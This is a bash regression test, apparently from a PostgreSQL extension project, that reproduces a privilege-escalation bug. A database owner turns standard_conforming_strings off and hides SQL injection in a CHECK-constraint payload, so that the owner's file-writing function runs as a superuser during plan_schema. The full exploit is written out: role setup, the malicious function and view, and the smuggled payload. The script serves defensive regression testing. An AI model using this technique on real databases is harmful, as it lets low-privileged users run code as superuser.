#!/usr/bin/env bash
# Kept as a regression test (tests/attacks.sh B29 runs it and requires every case "not reproduced"): the adversarial review of 5798187, as its reviewer wrote it.
# repro-5798187-C (PRE-EXISTING, not introduced by 5798187/e579537; same root cause as A):
# plan_schema's shadow tables (src/apply/shadow.rs) are built from the payload's text under the
# caller session's standard_conforming_strings. apply's execute() and the rehearsal pin it on; the
# shadow does not. The database owner sets `ALTER DATABASE … SET standard_conforming_strings = off`,
# and its payload (one CHECK that the gates, parsing with the setting on, read as a harmless expression
# with two string literals) is planned by a superuser. The shadow's ALTER TABLE then gets an extra
# ADD COLUMN whose STABLE default (table_to_xml over the owner's view) is evaluated once, as the
# superuser. The view calls the owner's function, which writes a server file with COPY. A subtransaction
# that is rolled back does not undo a file.
#
#   repro-5798187-C.sh SUPERUSER_DSN
set -uo pipefail
DSN=${1:?usage: $0 SUPERUSER_DSN}
q() { psql -X -q -At -v ON_ERROR_STOP=1 -d "$1" -c "$2" 2>&1 | grep -v '^WARNING:\|^LINE \|^HINT:\|^QUERY:\|^ *\^'; }
F=/tmp/rv5798187c_pwned
q "$DSN" "DO \$\$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'dbo_a') THEN CREATE ROLE dbo_a LOGIN; END IF; END \$\$" >/dev/null
q "$DSN" "DROP DATABASE IF EXISTS rv5798187c4" >/dev/null
q "$DSN" "CREATE DATABASE rv5798187c4 OWNER dbo_a" >/dev/null
S="${DSN%/*}/rv5798187c4"; O="${S/:\/\/postgres@/://dbo_a@}"
q "$S" "CREATE EXTENSION revos; CREATE SCHEMA app; GRANT USAGE ON SCHEMA app TO PUBLIC" >/dev/null
q "$S" "SELECT pg_catalog.pg_file_unlink('$F')" >/dev/null 2>&1
q "$S" "COPY (SELECT 'not yet') TO '$F'" >/dev/null
# the database owner's objects: a function that writes a file when it runs as a superuser, a view over it
q "$O" "CREATE SCHEMA dbo_s; GRANT USAGE ON SCHEMA dbo_s TO PUBLIC;
CREATE FUNCTION dbo_s.f() RETURNS integer LANGUAGE plpgsql AS \$f\$ BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    EXECUTE 'COPY (SELECT current_user || '' ran dbo_a''''s code in plan_schema'') TO ''$F''';
  END IF; RETURN 1; END \$f\$;
CREATE VIEW dbo_s.v AS SELECT dbo_s.f() AS x; GRANT SELECT ON dbo_s.v TO PUBLIC" >/dev/null
T() { echo "{\"name\": \"t\", \"schema\": \"app\", \"tenant_scoped\": false, \"timestamps\": false, \"soft_delete\": false, \"columns\": [{\"name\": \"code\", \"type\": \"text\"$1}]}"; }
echo "v0 (the superuser's table app.t): $(q "$S" "SELECT revos.apply_schema(\$p\${\"schema_version\": \"p-0\", \"description\": \"x\", \"tables\": [$(T "")]}\$p\$::jsonb) -> 'result' ->> 'status'")"
q "$O" "ALTER DATABASE rv5798187c4 SET standard_conforming_strings = off" >/dev/null
echo "dbo_a: ALTER DATABASE rv5798187c4 SET standard_conforming_strings = off"
Q="'"
EX=", \"check\": \"code <> ${Q}\\\\${Q} AND code <> ${Q})), ADD COLUMN z xml DEFAULT table_to_xml(\$q\$dbo_s.v\$q\$::regclass, true, true, \$q\$\$q\$) --${Q}\""
P="{\"schema_version\": \"p-1\", \"description\": \"x\", \"tables\": [$(T "$EX")]}"
echo "payload planned: $P"
echo "file before: $(q "$S" "SELECT pg_read_file('$F')")"
echo "the superuser's plan_schema: $(q "$S" "SELECT revos.plan_schema(\$p\$$P\$p\$::jsonb) -> 'result' ->> 'status'")"
OUT=$(q "$S" "SELECT pg_read_file('$F')")
echo "file after:  $OUT"
[[ "$OUT" == "postgres ran dbo_a's code"* ]] && echo "REPRODUCED: the database owner's function ran as the superuser during plan_schema" || echo "not reproduced"
